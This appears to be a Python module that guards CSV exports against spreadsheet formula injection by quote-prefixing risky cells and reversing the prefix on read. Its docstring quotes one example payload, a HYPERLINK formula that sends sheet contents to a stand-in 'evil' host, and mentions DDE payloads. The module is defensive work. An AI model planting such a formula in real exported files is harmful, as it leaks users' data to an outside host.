"""Spreadsheet-safe text cells: CSV formula injection defused by default.

Article text comes from the web. A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some spreadsheets skip before reading a formula) is run as a formula when the CSV is opened in
Excel, LibreOffice or Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet, a DDE
payload runs a program. OWASP's advice is to make such a cell text by prefixing a single quote, which
spreadsheets hide.

The rule here is reversible, so a CSV we wrote reads back to the same strings: a cell gets one leading
``'`` when it starts with a trigger character *or with a quote already*. Reading strips exactly one leading
quote. ``raw=True`` (the ``--raw-cells`` option) writes values untouched, for pipelines that never meet a
spreadsheet.
"""

from __future__ import annotations

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(value):
    """``value`` made inert for a spreadsheet; non-strings pass through."""
    if isinstance(value, str) and value and (value[0] in TRIGGERS or value[0] == QUOTE):
        return QUOTE + value
    return value


def restore(value):
    """The inverse of :func:`neutralise` for a cell read back from our own CSV."""
    if isinstance(value, str) and value.startswith(QUOTE):
        return value[1:]
    return value
